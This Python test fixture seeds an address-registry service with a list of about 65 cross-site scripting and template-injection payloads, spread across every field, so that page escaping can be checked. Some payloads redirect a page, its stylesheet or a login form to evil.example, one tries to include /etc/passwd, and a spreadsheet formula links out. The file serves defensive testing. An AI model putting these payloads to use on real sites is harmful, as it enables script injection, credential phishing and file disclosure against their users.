"""A service in which every text anybody may write is hostile, with something of every page.

All people, plans and addresses are invented. A server is started by whoever asks for this world.
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import orjson
import psycopg
import shapely
from plan_files_world import BOW, check_here, geojson_of, send
from planning_world import insert_plan
from registry_fixtures import EAST, WEST
from service_settings import ENCRYPTION_KEY, service_settings

from addrsvc.auth import accounts
from addrsvc.auth.model import Role, Scope, command_line
from addrsvc.auth.passwords import Passwords
from addrsvc.auth.service import create_key
from addrsvc.certificates.signing import new_seed
from addrsvc.clock import SystemClock
from addrsvc.db.doors import make_engine
from addrsvc.db.transaction import transaction
from addrsvc.dossiers.statistics.counting import count_dossiers
from addrsvc.planning import checking_task
from addrsvc.planning.changes.repository import zones_mark

STATES = ("needs_columns", "running", "refused", "done")
"""Of jobs; each has one."""
LOGIN, PASSWORD = "lan", "bốn con cá bơi ngược"

_RUN = "window.__xss=1"
PAYLOADS: tuple[str, ...] = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script\x20type=module>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<script/x>{_RUN}</script/x>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script>{_RUN}",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</noscript><script>{_RUN}</script>",
    f"</bdi></dd></dl><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'>",
    f"<img src=`x` onerror={_RUN}>",
    f"<img/src/onerror={_RUN}>",
    f"<IMG SRC=x OnErRoR={_RUN}>",
    f"<img src=x\nonerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=/?stolen'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<form action='//evil.example'><button>Đăng nhập</button></form>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    f'"autofocus onfocus={_RUN}//',
    f"` onerror={_RUN} `",
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"\\';{_RUN};//",
    f"${{{_RUN}}}",
    f"`${{{_RUN}}}`",
    f"{{{{{_RUN}}}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    "{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\u202e>tpircs/<{_RUN}>tpircs<\u202c",
    f"\u2066\u2067<script>{_RUN}</script>\u2069",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"\ufeff<script>{_RUN}</script>\u200b",
)

PERSON = f"</a><img src=x onerror={_RUN}>'\"${{{_RUN}}}`\u202e<script>{_RUN}</script>"


@dataclass(frozen=True)
class Names:
    """What of this world stands in links."""

    key: str
    codes: list[str] = field(default_factory=list)
    known: dict[str, str] = field(default_factory=dict)

    def filled(self, path: str) -> str:
        """Put what is known by name into a path."""
        for name, value in self.known.items():
            path = path.replace("{" + name + "}", value)
        return path


def settings_of(files_dir: Path) -> dict[str, str]:
    """Give the settings a server of this world is started with."""
    return {
        "demo": "true",
        "anonymous_per_minute": "100000",
        "anonymous_misses_per_minute": "100000",
        "known_per_minute": "100000",
        "encryption_keys": ENCRYPTION_KEY,
        "webhook_allow": "127.0.0.1/32",
        "certificate_key": new_seed(),
        "files_dir": str(files_dir),
    }


def before_start(url: str, files_dir: Path) -> Names:
    """Write what no function of the service would take, and who may do everything."""
    with psycopg.connect(url) as conn:
        conn.execute("UPDATE admin_unit SET full_name = %s WHERE level = 'commune'", [_all()])
        conn.execute("UPDATE admin_unit SET full_name = %s WHERE code = '79'", [_all(1)])
        formula = '=HYPERLINK("//evil.example")'
        conn.execute("UPDATE admin_unit SET full_name = %s WHERE code = %s", [formula, EAST])
    zones = [
        ("ODT", shapely.box(106.60, 10.94, 106.62, 10.96)),
        (PAYLOADS[4], shapely.box(106.62, 10.94, 106.64, 10.96)),
    ]
    before = insert_plan(url, zones, name=_all(4), communes=[WEST], status="superseded")
    plan = insert_plan(url, zones, name=_all(2), communes=[WEST], replaces=[before])
    draft = insert_plan(url, zones, name=_all(3), status="draft", communes=[WEST])
    with psycopg.connect(url) as conn:
        conn.execute("UPDATE planning_zone SET label = %s", [PAYLOADS[5]])
    with ThreadPoolExecutor(1) as apart:  # the browser's own event loop runs in this thread
        key, file = apart.submit(asyncio.run, _let_in(url, draft, files_dir)).result()
        apart.submit(asyncio.run, _compare(url, plan, before)).result()
    names = Names(key)
    names.known.update(plan=str(plan), before=str(before), draft=str(draft), file=file)
    for state in STATES:
        names.known[state] = _insert_job(url, state)
        (files_dir / names.known[state]).mkdir()
    return names


def after_start(url: str, base: str, names: Names) -> None:
    """Write by the service's own functions."""
    headers = {"Authorization": f"Bearer {names.key}", "Accept": "application/json"}
    with httpx.Client(base_url=base, headers=headers, timeout=30) as client:
        names.codes.extend(_register(client))
        names.known.update(code=names.codes[4], retired=names.codes[0])
        certificate = _done(client, "POST", "/v1/certificates", {"code": names.codes[4]})
        names.known["serial"] = certificate["serial"]
        for at, code in enumerate(names.codes[2:5]):
            addresses = [{"role": "object", "code": code, "note": PAYLOADS[at]}]
            body = {"procedure": "1.011442", "office": PAYLOADS[at], "addresses": addresses}
            _done(client, "PUT", f"/v1/dossiers/H09.12-260110-000{at}", body)
        report = {"kind": "missing", "text": PAYLOADS[14], "place": PAYLOADS[15], "commune": WEST}
        names.known["ticket"] = _done(client, "POST", "/v1/tickets", report)["number"]
        note = {"commune": WEST, "note": PAYLOADS[13]}
        batch = _done(client, "POST", "/v1/notices/batches", note)
        names.known["batch"] = str(batch["batch_id"])
        words = {"title": PAYLOADS[12], "note": PAYLOADS[11]}
        area = {"kind": "commune", "commune_code": WEST}
        task = _done(client, "POST", "/v1/collection/tasks", area | words)
        names.known["task"] = task["task_id"]
    with ThreadPoolExecutor(1) as apart:
        apart.submit(asyncio.run, _count(url)).result()


def _all(start: int = 0) -> str:
    """Put a few payloads into one name."""
    return " ".join(PAYLOADS[start::9])


async def _let_in(url: str, draft: int, files_dir: Path) -> tuple[str, str]:
    settings, clock = service_settings(url, files_dir=files_dir), SystemClock()
    engine = make_engine(settings)
    async with transaction(engine) as conn:
        key = await create_key(
            conn,
            command_line("test"),
            name=PAYLOADS[1],
            scopes=list(Scope),
            areas=None,
            expires_at=None,
            at=clock.now(),
        )
        await accounts.create_account(
            conn,
            command_line("test"),
            Passwords(),
            login=LOGIN,
            display_name=PERSON,
            roles=list(Role),
            password=PASSWORD,
            at=clock.now(),
        )
    broken = geojson_of([*((code, BOW[1]) for code in PAYLOADS[:3]), BOW])
    name = f"{PERSON.replace('/', '')}.geojson"
    sender = command_line("test")
    file = await send(engine, sender, draft, broken, settings, clock, name=name)
    await checking_task.run(engine, settings, clock, file_id=str(file), check=check_here)
    await engine.dispose()
    return key, str(file)


_COMPARISON = """
WITH made AS (
    INSERT INTO plan_comparison (plan_id, before_ids, state, mark, found, asked_at, asked_by,
                                 done_at)
    VALUES (%(plan)s, ARRAY[%(before)s]::bigint[], 'done', %(mark)s,
            '{"rows": [], "before_m2": 1, "after_m2": 1}', now(), 'key:a', now())
    RETURNING comparison_id)
INSERT INTO planning_change
SELECT comparison_id, %(plan)s, %(code)s, 'ODT', 5000,
       ST_MakeEnvelope(106.6, 10.94, 106.61, 10.95, 4326)
FROM made
"""


async def _compare(url: str, plan: int, before: int) -> None:
    """Write what a worker would have found two plans to differ in."""
    async with await psycopg.AsyncConnection.connect(url) as conn:
        mark = await zones_mark(conn, [plan, before])
        values = {"plan": plan, "before": before, "mark": mark, "code": PAYLOADS[4]}
        await conn.execute(_COMPARISON, values)


async def _count(url: str) -> None:
    engine = make_engine(service_settings(url))
    async with transaction(engine) as conn:
        await count_dossiers(conn, SystemClock())
    await engine.dispose()


_JOB = """
    INSERT INTO personal.file_job (owner, scopes, kind, file_name, options, state, found,
                                   rows_total, rows_done, counts, problem, created_at, began_at,
                                   ended_at, expires_at)
    VALUES (%(owner)s, '{addresses:read}', 'geocode', %(name)s, '{"result": "csv", "columns": {}}',
            %(state)s, %(found)s, 3000, 1500, %(counts)s, %(problem)s, now(), now(),
            now() + interval '1 minute', now() + interval '7 days')
    RETURNING job_id
"""


def _insert_job(url: str, state: str) -> str:
    """Write a job as a worker would leave it."""
    found = {
        "columns": [PAYLOADS[6], "role", PAYLOADS[7]],
        "roles": {"address": PAYLOADS[7], "commune": "role"},
        "rows": [list(PAYLOADS[8:11])],
        "encoding": "utf-8-sig",
    }
    said = dict.fromkeys(("vi", "en"), PAYLOADS[11])
    problem = {"slug": "file-broken", "title": said, "detail": said, "line": 17}
    values = {
        "owner": f"account:{LOGIN}",
        "name": f"{PERSON}.csv",
        "state": state,
        "found": orjson.dumps(found).decode(),
        "counts": orjson.dumps({"certain": 1400, PAYLOADS[12]: 100}).decode(),
        "problem": orjson.dumps(problem).decode() if state == "refused" else None,
    }
    with psycopg.connect(url) as conn:
        row = conn.execute(_JOB, values).fetchone()
    assert row is not None
    return str(row[0])


def _done(client: httpx.Client, method: str, path: str, body: dict[str, Any]) -> Any:
    answer = client.request(method, path, json=body, headers={"If-Match": "*"})
    assert answer.is_success, (body, answer.text)
    return answer.json()


def _register(client: httpx.Client) -> Iterator[str]:
    """Register a payload in every field of an address, one after another; give their codes."""
    for at in range(0, len(PAYLOADS), 4):
        several = [PAYLOADS[(at + n) % len(PAYLOADS)] for n in range(8)]
        name, street, place, building, unit, floor, text, source = several
        made = _done(
            client,
            "POST",
            "/v1/addresses",
            {
                "kind": "public_facility",
                "source": source,
                "name": name,
                "text": text,
                "components": {
                    "unit": unit,
                    "floor": floor,
                    "building": building,
                    "house_number": str(at + 1),
                    "thoroughfare": street,
                    "localities": [{"kind": "khu_pho", "name": place}],
                },
                "position": {
                    "lon": 106.61 + 0.001 * at,
                    "lat": 10.95,
                    "accuracy_m": 5,
                },
                "distinct_because": name,
            },
        )
        yield made["code"].replace("-", "")[:10]
    first = client.get("/v1/addresses?limit=2").json()["items"]
    ref = first[0]["ref"]
    _done(client, "PATCH", f"/v1/addresses/{ref}", {"text": "x", "reason": PAYLOADS[2]})
    _done(client, "POST", f"/v1/addresses/{ref}:retire", {"reason": PAYLOADS[3]})
    for at in range(0, len(PAYLOADS), 4):
        several = "  ".join(PAYLOADS[at : at + 4])[:200]
        body = {"url": f"https://127.0.0.1:8443/{at}", "description": several}
        _done(client, "POST", "/v1/webhooks", body)
